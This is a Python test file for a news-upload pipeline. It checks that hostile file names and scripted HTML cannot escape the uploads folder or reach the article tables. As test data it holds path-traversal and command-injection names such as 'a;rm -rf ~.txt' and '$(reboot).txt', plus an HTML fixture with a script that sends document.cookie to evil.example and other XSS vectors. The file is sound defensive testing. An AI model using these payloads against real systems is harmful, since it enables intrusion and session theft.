"""Hostile uploads: whatever the name and the bytes, an upload lands inside the uploads folder or is refused
with a reason, never replaces another file, and what it carries (scripts, binary data) never reaches the tables.
"""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
from conftest import ROOT as PROJECT
from hypothesis import given, settings
from hypothesis import strategies as st

from lib import pipeline
from lib.files import uploads
from lib.store.batches import Store

NAME_MAX = 255  # bytes in one file name on Linux file systems
HOSTILE_NAMES = [
    "../../x.txt", "../../../etc/cron.d/x.txt", "/etc/passwd.txt", "..\\..\\boot.ini.txt", "~/.bashrc.txt",
    "a\x00b.txt", "x.t\x00xt", "..", ".", "", " ", "-", "--help.txt", "-rf .txt", ".git/config.txt",
    "..\u2215..\u2215x.txt", "\u202etxt.exe.txt", "CON.txt", "nul.html", "a" * 1000 + ".txt", "𠀀" * 100 + ".txt",
    "新闻" * 60 + ".html", "Статья " * 40 + ".md", "x.txt\n", "x.txt/", "x.txt/.", "\t.txt", "<script>.html",
    "a;rm -rf ~.txt", "$(reboot).txt", "`id`.md", "%2e%2e%2fx.txt", "x.TXT", "x.HtMl",
]
ARTICLE = ("Ministers meet in Astana\n\nThe foreign ministers of Kazakhstan and Kyrgyzstan met in Astana on "
           "Tuesday and agreed to open a new border crossing for freight before the end of the year.\n")


def is_plain_name(name: str) -> bool:
    return (bool(name) and "/" not in name and "\\" not in name and "\x00" not in name
            and not name.startswith((".", "-")) and name not in (".", "..")
            and len(name.encode("utf-8")) + len("-0123456789") <= NAME_MAX)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_safe_name_of_any_text_is_one_plain_file_name(name):
    assert is_plain_name(uploads.safe_name(name))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_name_lands_inside_the_uploads_folder_or_is_refused(tmp_path, name):
    store = tmp_path / "store"
    (tmp_path / "x.txt").write_text("the file outside, which must not change")
    try:
        saved = uploads.save_upload(store, name, ARTICLE.encode())
    except uploads.UploadRejected as exc:
        assert "was not stored" in str(exc) and "only .txt" in str(exc)  # refused for its type, and says so
        assert not (store / "uploads").exists() or not any((store / "uploads").iterdir())
        return
    folder = (store / "uploads").resolve()
    assert saved.path.resolve().parent == folder
    assert saved.file == uploads.PREFIX + saved.path.name
    assert is_plain_name(saved.path.name)
    assert saved.path.read_text() == ARTICLE
    assert (tmp_path / "x.txt").read_text() == "the file outside, which must not change"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["store", "x.txt"]  # nothing written beside the store


def test_upload_never_follows_a_link_planted_in_the_uploads_folder(tmp_path):
    store = tmp_path / "store"
    folder = uploads.uploads_folder(store)
    folder.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("do not overwrite")
    (folder / "news.txt").symlink_to(victim)
    saved = uploads.save_upload(store, "news.txt", ARTICLE.encode())
    assert victim.read_text() == "do not overwrite"
    assert saved.path.resolve().parent == folder.resolve() and saved.path.read_text() == ARTICLE


SCRIPTED = """<html><head><title>Talks in Bishkek <script>alert('title')</script></title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><article><h1>Talks in Bishkek</h1>
<p>The prime ministers of Kazakhstan and Kyrgyzstan met in Bishkek on Friday to discuss water sharing
and the supply of electricity in the coming winter, the government said in a statement.</p>
<p>They agreed that a joint commission would meet again in March to settle the schedule of releases.</p>
<img src=x onerror="alert('img')"><iframe src="javascript:alert('frame')"></iframe>
<svg onload="alert('svg')"></svg><a href="javascript:alert('link')">more</a>
</article></body></html>"""


def test_uploaded_scripts_and_binaries_never_reach_the_tables(tmp_path):
    store = Store(tmp_path / "store")
    saved = [
        uploads.save_upload(store.root, "scripted.html", SCRIPTED.encode()),
        uploads.save_upload(store.root, "photo.txt", b"\x89PNG\r\n\x1a\n" + bytes(500)),
        uploads.save_upload(store.root, "zeros.md", bytes(4096)),
        uploads.save_upload(store.root, "../../plain.txt", ARTICLE.encode()),
    ]
    corpus_dir = tmp_path / "corpus"
    corpus_dir.mkdir()
    result = pipeline.build([(corpus_dir, ""), (uploads.uploads_folder(store.root), uploads.PREFIX)], store)
    assert sorted(result.articles["file"]) == ["uploads/plain.txt", "uploads/scripted.html"]
    for column in ("title", "body"):
        text = " ".join(result.articles[column])
        for marker in ("<script", "alert(", "onerror", "onload", "javascript:", "document.cookie", "<iframe"):
            assert marker not in text, (column, marker)
    body = result.articles.set_index("file").loc["uploads/scripted.html", "body"]
    assert "joint commission would meet again in March" in body
    errors = dict(zip(result.errors["file"], result.errors["error"], strict=True))
    assert "png" in errors["uploads/photo.txt"].lower()
    assert "binary" in errors["uploads/zeros.md"].lower()
    assert {s.file for s in saved} >= {"uploads/photo.txt", "uploads/zeros.md"}


UPLOADER = """
import sys
from pathlib import Path
from lib import pipeline
from lib.files import uploads
from lib.store.batches import Store
store, who = Store(Path(sys.argv[1])), sys.argv[2]
for i in range(8):
    text = (f"Report {who}-{i} on the border talks\\n\\nThe delegations of Kazakhstan and Kyrgyzstan met for "
            f"round {i} of the talks, and session {who} agreed on a new checkpoint for trucks at post {i}.\\n")
    uploads.save_upload(store.root, f"news-{i}.txt", text.encode())  # the same names in both sessions
    empty = store.root / "empty-corpus"
    empty.mkdir(exist_ok=True)
    pipeline.build([(empty, ""), (uploads.uploads_folder(store.root), uploads.PREFIX)], store)
"""


def test_two_sessions_uploading_and_ingesting_at_once_lose_nothing(tmp_path):
    store_root = tmp_path / "store"
    procs = [subprocess.Popen([sys.executable, "-c", UPLOADER, str(store_root), who], cwd=PROJECT,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
             for who in ("A", "B")]
    for proc in procs:
        output, _ = proc.communicate(timeout=120)
        assert proc.returncode == 0, output
    store = Store(store_root)
    result = pipeline.build([(store_root / "empty-corpus", ""), (uploads.uploads_folder(store_root), uploads.PREFIX)],
                            store)
    bodies = " ".join(result.articles["body"])
    for who in ("A", "B"):
        for i in range(8):
            assert f"session {who} agreed on a new checkpoint for trucks at post {i}" in bodies
    assert len(result.articles) == 16 and result.errors.empty
    assert not any(p.name.startswith(".") for p in uploads.uploads_folder(store_root).iterdir())
    assert os.listdir(store_root / "empty-corpus") == []
